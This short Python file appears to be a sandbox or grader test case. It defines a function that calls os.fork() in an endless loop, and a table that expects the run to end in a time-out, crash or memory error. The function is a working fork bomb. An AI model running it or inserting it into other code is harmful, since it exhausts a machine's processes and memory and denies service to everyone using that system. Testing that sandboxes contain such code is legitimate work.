"""Doubles its processes until nothing else can run."""

DUE = {"double": "time-out or error or crashed or malformed or memory"}

# %% double
import os

def double(x):
    while True:
        os.fork()
